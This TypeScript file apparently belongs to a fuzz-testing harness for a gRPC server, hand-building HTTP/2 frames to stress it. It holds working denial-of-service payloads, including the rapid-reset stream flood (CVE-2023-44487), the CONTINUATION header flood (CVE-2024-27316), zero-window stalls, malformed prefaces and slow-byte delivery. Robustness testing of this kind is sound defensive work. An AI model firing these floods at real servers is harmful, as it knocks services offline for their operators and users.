/** Bytes below gRPC: HTTP/2 that is none, or too much of it. */
import type { Draws } from '../draws.ts';
import { mutated } from '../hostile.ts';
import type { Attack } from './scene.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS] = [0, 1, 2, 3, 4] as const;
const [PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION] = [5, 6, 7, 8, 9] as const;
const END_HEADERS = 4;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length & 0xffffff, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags & 255, 4);
  head.writeUInt32BE(stream >>> 0, 5);
  return Buffer.concat([head, payload]);
}

const settings = frame(SETTINGS, 0, 0, Buffer.alloc(0));

/** A literal header that nobody indexes. */
function literal(name: string, value: string): Buffer {
  const text = (one: string) => {
    const bytes = Buffer.from(one);
    if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
    const rest = bytes.length - 127;
    return Buffer.concat([Buffer.of(127, (rest & 127) | 128, rest >> 7), bytes]);
  };
  return Buffer.concat([Buffer.of(0), text(name), text(value)]);
}

function requestHeaders(path: string, more: Buffer = Buffer.alloc(0)): Buffer {
  return Buffer.concat([
    literal(':method', 'POST'),
    literal(':scheme', 'http'),
    literal(':path', path),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
    more,
  ]);
}

const path = '/isochron.v1.Sampler/GetLoad';

function many(count: number, piece: (k: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, k) => piece(k)));
}

/** What is sent after a good preface and settings. */
const floods: readonly ((draws: Draws) => Buffer)[] = [
  () => many(500, () => settings),
  (draws) => many(500, () => frame(PING, 0, 0, draws.bytes(8))),
  () => many(300, (k) => frame(RST_STREAM, 0, 2 * k + 1, Buffer.alloc(4))),
  // opened and reset at once: CVE-2023-44487
  () =>
    many(200, (k) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, 2 * k + 1, requestHeaders(path)),
        frame(RST_STREAM, 0, 2 * k + 1, Buffer.of(0, 0, 0, 8)),
      ]),
    ),
  // more streams than may be open
  () => many(200, (k) => frame(HEADERS, END_HEADERS, 2 * k + 1, requestHeaders(path))),
  // headers that never end: CVE-2024-27316
  () =>
    Buffer.concat([
      frame(HEADERS, 0, 1, requestHeaders(path)),
      many(60, (k) => frame(CONTINUATION, 0, 1, literal(`x-${k}`, 'y'.repeat(1_000)))),
    ]),
  () => many(300, () => frame(WINDOW_UPDATE, 0, 0, Buffer.of(0x7f, 0xff, 0xff, 0xff))),
  () => many(300, (k) => frame(PRIORITY, 0, 2 * k + 1, Buffer.of(0, 0, 0, 0, 255))),
  () => many(200, (k) => frame(DATA, 0, 1 + 2 * k, Buffer.alloc(0))),
  () => frame(GOAWAY, 0, 0, Buffer.alloc(8, 255)),
  () =>
    frame(
      PUSH_PROMISE,
      END_HEADERS,
      1,
      Buffer.concat([Buffer.of(0, 0, 0, 2), requestHeaders(path)]),
    ),
  // a header table that grows and shrinks; windows of nothing
  (draws) => {
    const setting = (id: number, value: number) => {
      const bytes = Buffer.alloc(6);
      bytes.writeUInt16BE(id);
      bytes.writeUInt32BE(value >>> 0, 2);
      return bytes;
    };
    const value = draws.pick([0, 1, 2 ** 14 - 1, 2 ** 24, 2 ** 31, 2 ** 32 - 1]);
    return frame(
      SETTINGS,
      0,
      0,
      many(6, (k) => setting(k + 1, value)),
    );
  },
  // a window of nothing, then a request: its answer can never be sent
  () =>
    Buffer.concat([
      frame(SETTINGS, 0, 0, Buffer.of(0, 4, 0, 0, 0, 0)),
      frame(HEADERS, END_HEADERS, 1, requestHeaders(path)),
      frame(DATA, 1, 1, Buffer.alloc(5)),
    ]),
  // compressed headers that refer to what there is not
  (draws) => frame(HEADERS, END_HEADERS, 1, draws.bytes(40)),
  () => frame(HEADERS, END_HEADERS, 1, requestHeaders(path, literal('Upper', 'case'))),
  () => frame(HEADERS, END_HEADERS, 1, requestHeaders(path, literal('connection', 'close'))),
  () => frame(HEADERS, END_HEADERS, 1, requestHeaders(path, literal(':path', '/twice'))),
  () => frame(HEADERS, END_HEADERS, 2, requestHeaders(path)),
  (draws) =>
    frame(draws.below(256), draws.below(256), draws.below(2 ** 31), draws.bytes(draws.below(99))),
  // a length that does not come
  () => frame(DATA, 0, 1, Buffer.alloc(16_384)).subarray(0, 900),
  () => Buffer.concat([Buffer.of(255, 255, 255, DATA, 0, 0, 0, 0, 1), Buffer.alloc(2_000)]),
];

/** Too much of what is allowed, and what is not. */
export const http2Frames: Attack = (draws, scene) => {
  const flood = draws.pick(floods)(draws);
  const pieces = [PREFACE, settings, draws.chance(0.2) ? mutated(flood, draws) : flood];
  return scene.exchange({ pieces: [Buffer.concat(pieces)], pauseMs: 0, waitMs: 20 });
};

/** Connections that do not even begin. */
export const badPreface: Attack = (draws, scene) => {
  const piece = draws.pick<() => Buffer>([
    () => Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'),
    () => Buffer.from('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', 'latin1'),
    () => draws.bytes(draws.below(500)),
    () => mutated(PREFACE, draws),
    () => PREFACE,
    () => Buffer.concat([PREFACE, frame(DATA, 0, 0, Buffer.alloc(10))]),
    () => Buffer.alloc(70_000, 'A'),
    () => Buffer.alloc(0),
  ])();
  return scene.exchange({ pieces: [piece], pauseMs: 0, waitMs: 10 });
};

/** A byte now and then. */
export const slowBytes: Attack = (draws, scene) => {
  const whole = Buffer.concat([PREFACE, settings, frame(HEADERS, 0, 1, requestHeaders(path))]);
  const cuts = Array.from({ length: 6 }, () => draws.below(whole.length)).sort((a, b) => a - b);
  const pieces = cuts.map((at, k) => whole.subarray(cuts[k - 1] ?? 0, at));
  return scene.exchange({ pieces, pauseMs: 20 + draws.below(80), waitMs: 50 });
};
